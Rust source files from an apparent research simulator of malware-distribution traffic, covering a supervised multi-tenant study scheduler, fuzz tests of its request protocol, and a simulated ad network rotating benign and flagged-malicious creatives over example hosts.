    pub fn with_disk_fault_profile(mut self, profile: DiskFaultProfile) -> Service {
        self.disk_fault_override = Some(profile);
        self
    }

    /// The `retry_after_ms` hint this service attaches to shed work.
    pub fn retry_after_ms(&self) -> u64 {
        self.retry_after_ms
    }

    /// The service's own observability registry (shed/supervision
    /// counters) — the daemon records connection sheds here.
    pub(crate) fn obs(&self) -> &Registry {
        &self.obs
    }

    /// Admits one request for `tenant`, or `None` when the tenant is at
    /// its in-flight cap (the caller sheds with an `overloaded`
    /// response). The returned guard releases the slot on drop.
    pub fn admit(&self, tenant: &str) -> Option<InflightGuard<'_>> {
        let mut inflight = lock_recover(&self.inflight);
        let n = inflight.entry(tenant.to_string()).or_insert(0);
        if *n >= self.max_inflight_per_tenant {
            return None;
        }
        *n += 1;
        Some(InflightGuard { service: self, tenant: tenant.to_string() })
    }

    /// Arms the chaos hook on study `id`: its next claimed slice panics
    /// inside the supervised region. Drives the poisoned-tenant path in
    /// chaos tests without a genuinely buggy study.
    ///
    /// # Errors
    ///
    /// Unknown ids error.
    pub fn chaos_panic_next_slice(&self, id: u64) -> Result<(), ServeError> {
        let mut jobs = lock_recover(&self.jobs);
        job_mut(&mut jobs, id)?.panic_next_slice = true;
        Ok(())
    }

    /// Submits a study for `tenant`. The study's checkpoint directory
    /// is a pure function of (tenant, config), so resubmitting the same
    /// study after a daemon restart resumes from whatever checkpoints
    /// the previous incarnation left behind.
    ///
    /// # Errors
    ///
    /// Rejects configs without `checkpoint_every` (the scheduler's
    /// preemption grain) and propagates filesystem failures.
    pub fn submit(&self, tenant: &str, config: StudyConfig) -> Result<u64, ServeError> {
        let mut config = config;
        if config.checkpoint_every.is_none() {
            return Err(ServeError::Config(
                "daemon studies need checkpoint_every (the scheduling grain)".to_string(),
            ));
        }
        if let Some(profile) = &self.disk_fault_override {
            config.disk_fault_profile = profile.clone();
        }
        let fingerprint = config.cache_fingerprint();
        let dir_key = format!(
            "{fingerprint}&scan_fault={}&crawl_fault={}&disk_fault={}&every={}",
            config.fault_profile.name,
            config.crawl_fault_profile.name,
            config.disk_fault_profile.name,
            config.checkpoint_every.unwrap_or(0),
        );
        let dir = self
            .root
            .join(sanitize(tenant))
            .join(format!("{:016x}", fnv1a(dir_key.as_bytes())));
        std::fs::create_dir_all(&dir)?;
        let mut jobs = lock_recover(&self.jobs);
        let id = jobs.len() as u64 + 1;
        jobs.push(Job {
            id,
            tenant: tenant.to_string(),
            config,
            dir,
            fingerprint,
            slices: 0,
            in_flight: false,
            panic_next_slice: false,
            state: JobState::Running,
        });
        self.obs.counter("serve.studies.submitted").inc();
        self.obs.gauge("serve.studies.running").set(running_count(&jobs) as i64);
        Ok(id)
    }

    /// The shared cache set for a web fingerprint, created on first
    /// use. Studies with equal fingerprints get the same `Arc`.
    fn cache_group(&self, fingerprint: &str) -> Arc<ScanCaches> {
        let mut groups = lock_recover(&self.cache_groups);
        Arc::clone(
            groups.entry(fingerprint.to_string()).or_insert_with(|| Arc::new(ScanCaches::new())),
        )
    }

    /// Aggregate stats of the shared scan caches for `fingerprint`
    /// (`None` when no study with that fingerprint was submitted).
    pub fn cache_group_stats(
        &self,
        fingerprint: &str,
    ) -> Option<[(&'static str, CacheStats); 4]> {
        lock_recover(&self.cache_groups).get(fingerprint).map(|c| c.stats())
    }

    /// Advances study `id` by one scheduling slice, supervised: a
    /// panicking slice transitions the study to `poisoned`, a study
    /// over the slice budget to `stalled` — either way the panic or
    /// runaway is contained to this job and the scheduler keeps serving
    /// every other tenant. Returns the status after the slice;
    /// completed, failed or quarantined studies return immediately
    /// without work.
    ///
    /// # Errors
    ///
    /// Unknown ids error; scheduler failures are recorded in the
    /// study's state (and reported there), not returned.
    pub fn advance(&self, id: u64) -> Result<StudyStatus, ServeError> {
        // Claim the slice under the lock, run it outside (a slice does
        // real crawl/scan work — status queries must not block on it).
        let (config, dir, fingerprint, tenant, panic_requested) = {
            let mut jobs = lock_recover(&self.jobs);
            let job = job_mut(&mut jobs, id)?;
            if !matches!(job.state, JobState::Running) || job.in_flight {
                return status_of(job);
            }
            job.in_flight = true;
            let panic_requested = job.panic_next_slice;
            job.panic_next_slice = false;
            (
                job.config.clone(),
                job.dir.clone(),
                job.fingerprint.clone(),
                job.tenant.clone(),
                panic_requested,
            )
        };

        let caches = self.cache_group(&fingerprint);
        // The supervised region: no service lock is held here, so a
        // panic can only lose this slice's work, never wedge the job
        // table or the shared caches' cohabitants.
        let outcome = catch_unwind(AssertUnwindSafe(|| {
            if panic_requested {
                panic!("chaos: injected tenant panic");
            }
            Study::advance_checkpointed(&config, &dir, self.rounds_per_slice, Some(caches))
        }));
        self.obs.counter("serve.slices.total").inc();

        let mut jobs = lock_recover(&self.jobs);
        let job = job_mut(&mut jobs, id)?;
        job.in_flight = false;
        job.slices += 1;
        match outcome {
            Err(payload) => {
                job.state = JobState::Poisoned(panic_message(payload));
                self.obs.counter("serve.tenants.poisoned").inc();
            }
            Ok(Ok(None)) => {
                // Crawl still in progress; next slice continues —
                // unless this study has exhausted its slice budget.
                if self.max_slices.is_some_and(|max| job.slices >= max) {
                    job.state = JobState::Stalled(format!(
                        "slice budget exceeded ({} slices)",
                        job.slices
                    ));
                    self.obs.counter("serve.tenants.stalled").inc();
                }
            }
            Ok(Ok(Some(study))) => {
                match self.finish(&tenant, &fingerprint, &study) {
                    Ok(finished) => job.state = JobState::Done(finished),
                    Err(e) => job.state = JobState::Failed(e.to_string()),
                }
                self.obs.counter("serve.studies.completed").inc();
            }
            Ok(Err(e)) => job.state = JobState::Failed(e.to_string()),
        }
        self.obs.gauge("serve.studies.running").set(running_count(&jobs) as i64);
        status_of(job_mut(&mut jobs, id)?)
    }

    /// Publishes a completed study: verdicts into the shared index,
    /// metrics into the tenant's registry, artifacts distilled for the
    /// protocol.
    fn finish(
        &self,
        tenant: &str,
        fingerprint: &str,
        study: &Study,
    ) -> Result<FinishedStudy, serde_json::Error> {
        let mut malicious_regular = 0u64;
        let mut sample_url = None;
        for (record, outcome) in study.regular_pairs() {
            malicious_regular += u64::from(outcome.malicious);
            let url = record.url.canonical();
            self.verdicts
                .get_or_insert_with(&format!("{fingerprint}#{url}"), || outcome.malicious);
            sample_url.get_or_insert(url);
        }
        self.tenants.absorb(tenant, &study.metrics());
        let export = export::to_json(study)?;
        let digest = format!("{:016x}", fnv1a(export.as_bytes()));
        Ok(FinishedStudy {
            export,
            digest,
            records: study.store.len() as u64,
            malicious_regular,
            sample_url,
        })
    }

    /// One round-robin pass: advances every running study one slice.
    /// Returns how many studies are still running afterwards.
    ///
    /// # Errors
    ///
    /// Propagates unknown-id errors (impossible from the internal id
    /// list — jobs are never removed).
    pub fn step(&self) -> Result<usize, ServeError> {
        let ids: Vec<u64> = {
            let jobs = lock_recover(&self.jobs);
            jobs.iter()
                .filter(|j| matches!(j.state, JobState::Running) && !j.in_flight)
                .map(|j| j.id)
                .collect()
        };
        for id in ids {
            self.advance(id)?;
        }
        let jobs = lock_recover(&self.jobs);
        Ok(running_count(&jobs))
    }

    /// Runs the scheduler until every submitted study completes.
    ///
    /// # Errors
    ///
    /// Propagates [`Service::step`] failures.
    pub fn run_to_completion(&self) -> Result<(), ServeError> {
        while self.step()? > 0 {}
        Ok(())
    }

    /// The status of study `id`.
    ///
    /// # Errors
    ///
    /// Unknown ids error.
    pub fn status(&self, id: u64) -> Result<StudyStatus, ServeError> {
        let mut jobs = lock_recover(&self.jobs);
        status_of(job_mut(&mut jobs, id)?)
    }

    /// The export JSON of a completed study.
    ///
    /// # Errors
    ///
    /// Unknown ids error; running or failed studies return `None`.
    pub fn export(&self, id: u64) -> Result<Option<String>, ServeError> {
        let jobs = lock_recover(&self.jobs);
        let job =
            jobs.iter().find(|j| j.id == id).ok_or(ServeError::UnknownStudy(id))?;
        Ok(match &job.state {
            JobState::Done(f) => Some(f.export.clone()),
            _ => None,
        })
    }

    /// Looks up a URL's verdict in the shared index through study
    /// `id`'s web fingerprint. `Some(malicious)` when any completed
    /// study of the same web scanned the URL — including another
    /// tenant's — `None` otherwise.
    ///
    /// # Errors
    ///
    /// Unknown ids error.
    pub fn query_verdict(&self, id: u64, url: &str) -> Result<Option<bool>, ServeError> {
        let fingerprint = {
            let jobs = lock_recover(&self.jobs);
            jobs.iter()
                .find(|j| j.id == id)
                .ok_or(ServeError::UnknownStudy(id))?
                .fingerprint
                .clone()
        };
        self.obs.counter("serve.verdict.queries").inc();
        let verdict = self.verdicts.get(&format!("{fingerprint}#{url}"));
        match verdict {
            Some(_) => self.obs.counter("serve.verdict.hits").inc(),
            None => self.obs.counter("serve.verdict.misses").inc(),
        }
        Ok(verdict)
    }

    /// The service-wide metrics snapshot: every tenant's study metrics
    /// namespaced `tenant.<name>.*` plus the bare cross-tenant rollup
    /// (see [`TenantRegistries::global_snapshot`]), merged with the
    /// service's own `serve.*` counters.
    pub fn metrics(&self) -> MetricsSnapshot {
        let merged = Registry::new();
        merged.absorb(&self.tenants.global_snapshot());
        merged.absorb(&self.obs.snapshot());
        merged.snapshot()
    }

    /// Dispatches one protocol request (the shared front end behind the
    /// TCP daemon and any in-process embedding). Requests over the
    /// tenant's in-flight cap are shed with an `overloaded` response
    /// carrying `retry_after_ms`.
    pub fn handle(&self, req: &Request) -> Response {
        let Some(_guard) = self.admit(&req.tenant) else {
            self.obs.counter("serve.shed.requests").inc();
            return Response::overloaded(&req.op, self.retry_after_ms);
        };
        match req.op.as_str() {
            "submit-study" => {
                let config = match req.study_config() {
                    Ok(c) => c,
                    Err(e) => return Response::failure(&req.op, e),
                };
                match self.submit(&req.tenant, config) {
                    Ok(id) => {
                        let mut r = Response::success(&req.op);
                        r.study = Some(id);
                        r.tenant = Some(req.tenant.clone());
                        r
                    }
                    Err(e) => Response::failure(&req.op, e),
                }
            }
            "study-status" => {
                let Some(id) = req.study else {
                    return Response::failure(&req.op, "study-status needs `study`");
                };
                match self.status(id) {
                    Ok(status) => {
                        let mut r = Response::success(&req.op);
                        r.study = Some(status.id);
                        r.tenant = Some(status.tenant);
                        r.state = Some(status.state.clone());
                        r.slices = Some(status.slices);
                        r.digest = status.digest;
                        r.records = status.records;
                        r.malicious_regular = status.malicious_regular;
                        r.sample_url = status.sample_url;
                        r.error = status.error;
                        if req.include_export {
                            r.export = self.export(id).ok().flatten();
                        }
                        r
                    }
                    Err(e) => Response::failure(&req.op, e),
                }
            }
            "query-verdict" => {
                let (Some(id), Some(url)) = (req.study, req.url.as_deref()) else {
                    return Response::failure(&req.op, "query-verdict needs `study` and `url`");
                };
                match self.query_verdict(id, url) {
                    Ok(verdict) => {
                        let mut r = Response::success(&req.op);
                        r.study = Some(id);
                        r.known = Some(verdict.is_some());
                        r.malicious = verdict;
                        r
                    }
                    Err(e) => Response::failure(&req.op, e),
                }
            }
            "stream-metrics" => {
                let mut r = Response::success(&req.op);
                r.metrics = Some(self.metrics().to_json());
                r
            }
            "shutdown" => Response::success(&req.op),
            other => Response::failure(other, format!("unknown op `{other}`")),
        }
    }
}

fn running_count(jobs: &[Job]) -> usize {
    jobs.iter().filter(|j| matches!(j.state, JobState::Running)).count()
}

fn job_mut<'j>(jobs: &'j mut [Job], id: u64) -> Result<&'j mut Job, ServeError> {
    jobs.iter_mut().find(|j| j.id == id).ok_or(ServeError::UnknownStudy(id))
}

fn status_of(job: &mut Job) -> Result<StudyStatus, ServeError> {
    let (state, digest, records, malicious_regular, sample_url, error) = match &job.state {
        JobState::Running => ("running", None, None, None, None, None),
        JobState::Done(f) => (
            "done",
            Some(f.digest.clone()),
            Some(f.records),
            Some(f.malicious_regular),
            f.sample_url.clone(),
            None,
        ),
        JobState::Failed(e) => ("failed", None, None, None, None, Some(e.clone())),
        JobState::Poisoned(e) => ("poisoned", None, None, None, None, Some(e.clone())),
        JobState::Stalled(e) => ("stalled", None, None, None, None, Some(e.clone())),
    };
    Ok(StudyStatus {
        id: job.id,
        tenant: job.tenant.clone(),
        state: state.to_string(),
        slices: job.slices,
        digest,
        records,
        malicious_regular,
        sample_url,
        error,
    })
}

/// Tenant names become path components; keep them boring.
fn sanitize(tenant: &str) -> String {
    let cleaned: String = tenant
        .chars()
        .map(|c| if c.is_ascii_alphanumeric() || c == '-' || c == '_' { c } else { '_' })
        .collect();
    if cleaned.is_empty() {
        "default".to_string()
    } else {
        cleaned
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scratch_service(tag: &str) -> (Service, PathBuf) {
        let root = std::env::temp_dir()
            .join(format!("slum-service-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&root);
        let service = Service::open(&root).expect("service root");
        (service, root)
    }

    fn tiny_config() -> StudyConfig {
        StudyConfig::builder()
            .seed(2016)
            .crawl_scale(0.0002)
            .domain_scale(0.03)
            .scan_workers(1)
            .checkpoint_every(7)
            .build()
            .expect("valid config")
    }

    #[test]
    fn admission_caps_inflight_per_tenant_and_sheds_requests() {
        let (service, root) = scratch_service("admit");
        let service = service.with_max_inflight_per_tenant(1).with_retry_after_ms(42);

        let guard = service.admit("alpha").expect("first slot admits");
        assert!(service.admit("alpha").is_none(), "cap of 1 must shed the second");
        assert!(service.admit("beta").is_some(), "caps are per-tenant");

        // handle() sheds through the same gate, with the typed
        // overloaded response and the shed counter.
        let mut req = Request::new("stream-metrics");
        req.tenant = "alpha".to_string();
        let shed = service.handle(&req);
        assert!(!shed.ok);
        assert_eq!(shed.error.as_deref(), Some("overloaded"));
        assert_eq!(shed.retry_after_ms, Some(42));
        assert!(service.metrics().counter("serve.shed.requests") >= 1);

        // Dropping the guard frees the slot.
        drop(guard);
        let served = service.handle(&req);
        assert!(served.ok, "slot must free on guard drop: {:?}", served.error);
        std::fs::remove_dir_all(&root).ok();
    }

    #[test]
    fn clean_service_exports_zeroed_resilience_counters() {
        let (service, root) = scratch_service("zeros");
        let m = service.metrics();
        for name in [
            "serve.shed.requests",
            "serve.shed.connections",
            "serve.tenants.poisoned",
            "serve.tenants.stalled",
            "ckpt.quarantined",
        ] {
            assert_eq!(m.counter(name), 0, "{name} must be present and zero");
            assert!(
                m.to_json().contains(name),
                "{name} must be exported explicitly on clean runs"
            );
        }
        std::fs::remove_dir_all(&root).ok();
    }

    #[test]
    fn service_survives_a_poisoned_job_table_lock() {
        let (service, root) = scratch_service("poisonlock");
        let id = service.submit("alpha", tiny_config()).expect("submit");

        // Poison the jobs mutex the way a panicking thread would: grab
        // it, panic, unwind. Before lock_recover, every later call
        // died on `.lock().expect(...)`.
        let _ = catch_unwind(AssertUnwindSafe(|| {
            let _guard = service.jobs.lock().unwrap();
            panic!("poison the lock");
        }));
        assert!(service.jobs.is_poisoned(), "test precondition: lock is poisoned");

        let status = service.status(id).expect("status still answers");
        assert_eq!(status.state, "running");
        let second = service.submit("alpha", tiny_config()).expect("submit still works");
        assert_eq!(second, id + 1);
        std::fs::remove_dir_all(&root).ok();
    }

    #[test]
    fn panicking_slice_poisons_only_its_own_study() {
        let (service, root) = scratch_service("panic");
        let victim = service.submit("victim", tiny_config()).expect("submit");
        let mut other_config = tiny_config();
        other_config.seed = 2017;
        let other = service.submit("bystander", other_config).expect("submit");

        service.chaos_panic_next_slice(victim).expect("arm chaos hook");
        let status = service.advance(victim).expect("supervised advance");
        assert_eq!(status.state, "poisoned");
        assert!(
            status.error.as_deref().unwrap_or("").contains("chaos"),
            "panic message must surface: {:?}",
            status.error
        );
        assert_eq!(service.metrics().counter("serve.tenants.poisoned"), 1);

        // The scheduler skips the poisoned job and completes everyone
        // else.
        service.run_to_completion().expect("scheduler");
        assert_eq!(service.status(other).expect("status").state, "done");
        assert_eq!(service.status(victim).expect("status").state, "poisoned");

        // Resubmitting the same (tenant, config) maps to the same
        // checkpoint dir and picks up where the intact checkpoints
        // left off.
        let retry = service.submit("victim", tiny_config()).expect("resubmit");
        service.run_to_completion().expect("scheduler");
        assert_eq!(service.status(retry).expect("status").state, "done");
        std::fs::remove_dir_all(&root).ok();
    }

    #[test]
    fn slice_budget_stalls_runaway_studies() {
        let (service, root) = scratch_service("stall");
        let service = service.with_rounds_per_slice(1).with_max_slices(Some(2));
        let id = service.submit("greedy", tiny_config()).expect("submit");
        service.run_to_completion().expect("scheduler");
        let status = service.status(id).expect("status");
        assert_eq!(status.state, "stalled", "2 one-round slices cannot finish a study");
        assert_eq!(status.slices, 2);
        assert!(status.error.as_deref().unwrap_or("").contains("slice budget"));
        assert_eq!(service.metrics().counter("serve.tenants.stalled"), 1);
        std::fs::remove_dir_all(&root).ok();
    }
}
