//! Fuzz hardening of the protocol boundary: every byte sequence a
//! client can put on the wire maps to either a parsed [`Request`] or a
//! typed [`ProtoError`] — never a panic, never an unbounded buffer,
//! and every [`Response`] stays one newline-free line.

use proptest::prelude::*;
use slum_serve::proto::{parse_request, ProtoError, Request, Response, MAX_REQUEST_LINE};

proptest! {
    /// Parsing is total over arbitrary printable garbage.
    #[test]
    fn parse_total_over_arbitrary_text(line in ".{0,300}") {
        match parse_request(&line) {
            Ok(_) => {}
            Err(ProtoError::Malformed(msg)) => prop_assert!(!msg.is_empty()),
            Err(ProtoError::RequestTooLarge { .. }) => {
                prop_assert!(line.len() > MAX_REQUEST_LINE);
            }
        }
    }

    /// Parsing is total over arbitrary raw bytes (the transport decodes
    /// lossily, so invalid UTF-8 arrives as replacement characters).
    #[test]
    fn parse_total_over_arbitrary_bytes(bytes in proptest::collection::vec(any::<u8>(), 0..300)) {
        let line = String::from_utf8_lossy(&bytes);
        let _ = parse_request(&line);
    }

    /// Every strict prefix of a valid request line is rejected with a
    /// typed error, never a panic or a false accept.
    #[test]
    fn truncated_requests_are_rejected(cut in 1usize..40, tenant in "[a-z]{1,8}") {
        let line = format!(
            r#"{{"op":"submit-study","tenant":"{tenant}","crawl_scale":0.0002}}"#
        );
        prop_assume!(cut < line.len());
        let truncated = &line[..line.len() - cut];
        match parse_request(truncated) {
            Err(ProtoError::Malformed(_)) => {}
            Ok(req) => {
                // A truncation can only re-parse if it still closes the
                // object — impossible for a strict prefix of this line.
                prop_assert!(false, "truncation parsed as op {:?}", req.op);
            }
            Err(e) => prop_assert!(false, "unexpected error class: {e:?}"),
        }
    }

    /// Oversized lines are rejected by length before the JSON parser
    /// ever sees them, whatever their content.
    #[test]
    fn oversized_lines_are_rejected_by_length(pad in 1usize..2000, filler in "[a-z]{1,16}") {
        let line = format!(
            "{{\"op\":\"submit-study\",\"tenant\":\"{}\"}}",
            filler.repeat(MAX_REQUEST_LINE / filler.len() + pad)
        );
        match parse_request(&line) {
            Err(ProtoError::RequestTooLarge { len, max }) => {
                prop_assert_eq!(len, line.len());
                prop_assert_eq!(max, MAX_REQUEST_LINE);
            }
            other => prop_assert!(false, "expected RequestTooLarge, got {other:?}"),
        }
    }

    /// Anything that parses round-trips through serialization.
    #[test]
    fn parsed_requests_round_trip(op in "[a-z-]{1,16}", tenant in "[a-zA-Z0-9_-]{0,12}") {
        let line = format!(r#"{{"op":"{op}","tenant":"{tenant}"}}"#);
        let req = parse_request(&line).expect("well-formed line parses");
        let encoded = serde_json::to_string(&req).expect("serializes");
        let back = parse_request(&encoded).expect("round-trips");
        prop_assert_eq!(back.op, req.op);
        prop_assert_eq!(back.tenant, req.tenant);
        prop_assert_eq!(back.seed, req.seed);
    }

    /// Config building is total over arbitrary profile names: unknown
    /// names come back as wire errors, never panics.
    #[test]
    fn study_config_total_over_profile_names(
        scan in "[ -~]{0,24}",
        crawl in "[ -~]{0,24}",
        disk in "[ -~]{0,24}",
    ) {
        let mut req = Request::new("submit-study");
        req.fault_profile = scan;
        req.crawl_fault_profile = crawl;
        req.disk_fault_profile = disk;
        if let Err(msg) = req.study_config() {
            prop_assert!(msg.contains("profile"), "unhelpful error: {msg}");
        }
    }

    /// Responses stay newline-free for arbitrary error payloads — a
    /// multi-line error would desynchronize the framing.
    #[test]
    fn responses_stay_one_line(error in ".{0,120}", op in "[a-z-]{1,16}") {
        let encoded = serde_json::to_string(&Response::failure(&op, &error))
            .expect("serializes");
        prop_assert!(!encoded.contains('\n'));
        let back: Response = serde_json::from_str(&encoded).expect("parses");
        prop_assert!(!back.ok);
    }
}
