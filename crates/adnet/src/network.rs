//! The ad network itself: creatives, flights, impression rotation.

use rand::rngs::StdRng;
use rand::Rng;
use serde::{Deserialize, Serialize};

use slum_exchange::{ExchangeKind, SurfStep, TrafficSource};
use slum_websim::rng::{path_token, pick_weighted};
use slum_websim::Url;

/// One creative in the network's rotation: an ad whose click-through
/// lands on `url`.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Creative {
    /// Landing-page URL (often the head of an ad-chain redirect for
    /// malicious campaigns).
    pub url: Url,
    /// Base rotation weight.
    pub weight: f64,
    /// Ground truth: whether the campaign behind this creative is
    /// malicious (used by calibration and the oracle, never by
    /// rotation).
    pub malicious: bool,
}

/// A time-boxed malvertising flight: a paid buy that boosts one
/// creative hard for its window — the ad-world analog of the exchanges'
/// paid campaign bursts.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Flight {
    /// Landing URL of the boosted creative.
    pub target: Url,
    /// Virtual second the flight starts.
    pub start: u64,
    /// Virtual second the flight ends (exclusive).
    pub end: u64,
    /// Additive rotation-weight boost while active.
    pub boost: f64,
}

impl Flight {
    /// Whether the flight is serving at time `t`.
    pub fn active_at(&self, t: u64) -> bool {
        (self.start..self.end).contains(&t)
    }
}

/// A configured ad network: a deterministic impression stream behind
/// the [`TrafficSource`] contract.
#[derive(Debug, Clone)]
pub struct AdNetwork {
    name: String,
    /// The network's own interstitial page (self-referral target).
    home: Url,
    /// Premium direct-deal publisher pages (popular-referral targets).
    premium: Vec<Url>,
    creatives: Vec<Creative>,
    flights: Vec<Flight>,
    self_fraction: f64,
    premium_fraction: f64,
    min_surf_secs: u32,
}

impl AdNetwork {
    /// Creates a network.
    ///
    /// # Panics
    ///
    /// Panics when `creatives` is empty or the referral fractions leave
    /// no room for regular impressions.
    pub fn new(
        name: impl Into<String>,
        home: Url,
        premium: Vec<Url>,
        creatives: Vec<Creative>,
        self_fraction: f64,
        premium_fraction: f64,
        min_surf_secs: u32,
    ) -> Self {
        assert!(!creatives.is_empty(), "an ad network needs at least one creative");
        assert!(
            self_fraction + premium_fraction < 1.0,
            "referral fractions must leave room for served creatives"
        );
        AdNetwork {
            name: name.into(),
            home,
            premium,
            creatives,
            flights: Vec::new(),
            self_fraction,
            premium_fraction,
            min_surf_secs,
        }
    }

    /// Network name.
    pub fn name(&self) -> &str {
        &self.name
    }

    /// Registered creatives.
    pub fn creatives(&self) -> &[Creative] {
        &self.creatives
    }

    /// Scheduled malvertising flights.
    pub fn flights(&self) -> &[Flight] {
        &self.flights
    }

    /// Schedules a flight (targets must already be listed; unknown
    /// targets are added with zero base weight, like a creative
    /// uploaded just for the buy).
    pub fn schedule_flight(&mut self, flight: Flight) {
        if !self.creatives.iter().any(|c| c.url == flight.target) {
            self.creatives.push(Creative {
                url: flight.target.clone(),
                weight: 0.0,
                malicious: false,
            });
        }
        self.flights.push(flight);
    }

    /// Effective rotation weight of creative `i` at time `t`.
    fn effective_weight(&self, i: usize, t: u64) -> f64 {
        let creative = &self.creatives[i];
        let boost: f64 = self
            .flights
            .iter()
            .filter(|f| f.active_at(t) && f.target == creative.url)
            .map(|f| f.boost)
            .sum();
        creative.weight + boost
    }
}

impl TrafficSource for AdNetwork {
    fn name(&self) -> &str {
        &self.name
    }

    fn kind(&self) -> ExchangeKind {
        // Programmatic rotation: impressions are served, never clicked
        // through by an operator.
        ExchangeKind::AutoSurf
    }

    fn min_surf_secs(&self) -> u32 {
        self.min_surf_secs
    }

    /// Serves one impression at virtual time `t`.
    ///
    /// Rotation: with probability `self_fraction` the network serves
    /// its own interstitial; with `premium_fraction` a premium
    /// publisher page; otherwise a creative weighted by base weight
    /// plus any active flight boosts. Served creatives usually carry an
    /// impression token (`?imp=`), so distinct URLs accumulate per
    /// landing domain just like the exchange corpus.
    fn next_step(&mut self, t: u64, rng: &mut StdRng) -> SurfStep {
        let roll: f64 = rng.gen();
        let mut campaign_boosted = false;
        let url = if roll < self.self_fraction {
            self.home.clone()
        } else if roll < self.self_fraction + self.premium_fraction && !self.premium.is_empty() {
            self.premium[rng.gen_range(0..self.premium.len())].clone()
        } else {
            let weights: Vec<f64> =
                (0..self.creatives.len()).map(|i| self.effective_weight(i, t)).collect();
            let total: f64 = weights.iter().sum();
            let idx = if total <= 0.0 {
                rng.gen_range(0..self.creatives.len())
            } else {
                pick_weighted(rng, &weights)
            };
            let base = &self.creatives[idx].url;
            campaign_boosted = self
                .flights
                .iter()
                .any(|f| f.active_at(t) && f.target == self.creatives[idx].url);
            if rng.gen_bool(0.7) {
                let token = path_token(rng, 8);
                let path = format!("{}?imp={}", base.path(), token);
                base.with_path(&path)
            } else {
                base.clone()
            }
        };
        SurfStep { url, min_surf_secs: self.min_surf_secs, captcha: None, campaign_boosted }
    }

    fn captcha_nonce(&self) -> u64 {
        // Auto-surf pacing: no CAPTCHA gate, so there is no advancing
        // side-channel state to checkpoint.
        0
    }

    fn restore_captcha_nonce(&mut self, _nonce: u64) {}
}

#[cfg(test)]
mod tests {
    use super::*;
    use slum_websim::rng::seeded;

    fn creative(host: &str, weight: f64, malicious: bool) -> Creative {
        Creative { url: Url::http(host, "/"), weight, malicious }
    }

    fn basic_network() -> AdNetwork {
        AdNetwork::new(
            "TestNet",
            Url::http("testnet.adnet.example", "/"),
            vec![Url::http("news.premium.example", "/"), Url::http("sports.premium.example", "/")],
            vec![
                creative("brand-a.example.com", 1.0, false),
                creative("brand-b.example.com", 1.0, false),
                creative("sketchy.example.com", 1.0, true),
            ],
            0.08,
            0.12,
            6,
        )
    }

    #[test]
    fn referral_fractions_respected() {
        let mut net = basic_network();
        let mut rng = seeded(1);
        let n = 20_000;
        let (mut selfs, mut premiums) = (0u64, 0u64);
        for t in 0..n {
            let step = net.next_step(t, &mut rng);
            let host = step.url.host().to_string();
            if host == "testnet.adnet.example" {
                selfs += 1;
            } else if host.ends_with("premium.example") {
                premiums += 1;
            }
        }
        assert!((selfs as f64 / n as f64 - 0.08).abs() < 0.01);
        assert!((premiums as f64 / n as f64 - 0.12).abs() < 0.01);
    }

    #[test]
    fn impressions_never_carry_captchas() {
        let mut net = basic_network();
        let mut rng = seeded(2);
        for t in 0..200 {
            assert!(net.next_step(t, &mut rng).captcha.is_none());
        }
        assert_eq!(net.captcha_nonce(), 0);
    }

    #[test]
    fn flight_boost_skews_rotation_during_window() {
        let mut net = basic_network();
        net.schedule_flight(Flight {
            target: Url::http("sketchy.example.com", "/"),
            start: 1_000,
            end: 2_000,
            boost: 100.0,
        });
        let mut rng = seeded(3);
        let share = |net: &mut AdNetwork, rng: &mut StdRng, t0: u64| {
            let n = 3_000;
            let mut hits = 0;
            for i in 0..n {
                let step = net.next_step(t0 + (i % 900), rng);
                if step.url.host() == "sketchy.example.com" {
                    hits += 1;
                }
            }
            hits as f64 / n as f64
        };
        let before = share(&mut net, &mut rng, 0);
        let during = share(&mut net, &mut rng, 1_000);
        assert!(during > before * 2.0, "before {before}, during {during}");
    }

    #[test]
    fn steps_flag_boosted_creatives() {
        let mut net = basic_network();
        net.schedule_flight(Flight {
            target: Url::http("sketchy.example.com", "/"),
            start: 500,
            end: 1_500,
            boost: 100.0,
        });
        let mut rng = seeded(4);
        assert!((0..200).all(|t| !net.next_step(t, &mut rng).campaign_boosted));
        for i in 0..300 {
            let step = net.next_step(500 + i, &mut rng);
            assert_eq!(step.campaign_boosted, step.url.host() == "sketchy.example.com");
        }
    }

    #[test]
    fn stream_is_deterministic_per_seed() {
        let mut a = basic_network();
        let mut b = basic_network();
        let mut rng_a = seeded(9);
        let mut rng_b = seeded(9);
        for t in 0..500 {
            assert_eq!(a.next_step(t, &mut rng_a).url, b.next_step(t, &mut rng_b).url);
        }
    }

    #[test]
    fn distinct_urls_accumulate_per_domain() {
        let mut net = basic_network();
        let mut rng = seeded(5);
        let mut urls = std::collections::BTreeSet::new();
        for t in 0..500 {
            urls.insert(net.next_step(t, &mut rng).url.to_string());
        }
        assert!(urls.len() > 50, "only {} distinct URLs", urls.len());
    }

    #[test]
    #[should_panic(expected = "at least one creative")]
    fn empty_network_rejected() {
        AdNetwork::new(
            "X",
            Url::http("x.example", "/"),
            vec![],
            vec![],
            0.1,
            0.1,
            5,
        );
    }
}
