//! # slum-adnet
//!
//! The ad-network traffic substrate: a second malware-distribution
//! ecosystem behind the same [`slum_exchange::TrafficSource`] contract
//! the traffic exchanges implement.
//!
//! The paper measured traffic *exchanges*; its closing discussion notes
//! that the same low-quality traffic flows through underground ad
//! networks. This crate models that ecosystem: publisher pages embed ad
//! slots filled by a rotation of *creatives*, a slice of which are
//! malicious campaigns whose landing pages hide behind ad-chain
//! redirects (the third-party inclusion trees of ad serving). The
//! crawler drives an [`AdNetwork`] exactly like an exchange — each surf
//! step is one served impression — so the corpus flows through the
//! unchanged referral filter, scan pipeline and artifact layer.
//!
//! Mapping onto the crawl contract:
//!
//! - **Self-referrals** — the network's own interstitial/landing pages
//!   (served on the ad-server host).
//! - **Popular referrals** — premium direct-deal publishers the network
//!   pads its reporting with (the analog of the exchanges' Google /
//!   Facebook / YouTube padding).
//! - **Regular URLs** — creative landing pages: the analysis corpus.
//! - **Campaign flights** — time-boxed malvertising buys that boost one
//!   malicious creative, the ad-world analog of the exchanges' paid
//!   campaign bursts (§IV).
//!
//! All rotation randomness is drawn from the crawler's cursor RNG in an
//! order that is a pure function of network state and virtual time, so
//! every determinism guarantee of the crawl layer (worker fan-out,
//! streaming overlap, kill+resume) holds for this substrate too.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod network;
pub mod params;
pub mod setup;

